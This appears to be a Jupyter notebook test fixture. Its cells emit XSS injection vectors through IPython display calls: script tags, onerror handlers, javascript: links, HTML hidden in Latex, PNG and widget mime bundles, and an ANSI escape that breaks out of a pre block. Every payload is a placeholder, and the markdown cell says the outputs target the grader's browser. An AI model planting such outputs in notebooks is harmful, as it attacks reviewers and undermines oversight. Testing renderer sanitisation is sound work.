# %% [markdown] says="norm"
# Outputs carry scripts for the browser of whoever grades.

# %%
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, publish_display_data

display(HTML("<script>PAYLOAD</script><img src=x onerror=PAYLOAD><iframe srcdoc='PAYLOAD'>"))
display(Javascript("PAYLOAD"))
display(Markdown("<script>PAYLOAD</script> [x](javascript:PAYLOAD)"))
display(Latex("$x$<script>PAYLOAD</script>"))
publish_display_data({"image/png": '"><script>PAYLOAD</script>', "text/plain": "<script>PAYLOAD</script>"})
publish_display_data(
    {"text/html": "x"}, metadata={"text/html": {"isolated": True}, "filenames": {"image/png": "PAYLOAD"}}
)
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "PAYLOAD"}, "text/plain": "x"})
print("\x1b[31m</pre><script>PAYLOAD</script>")
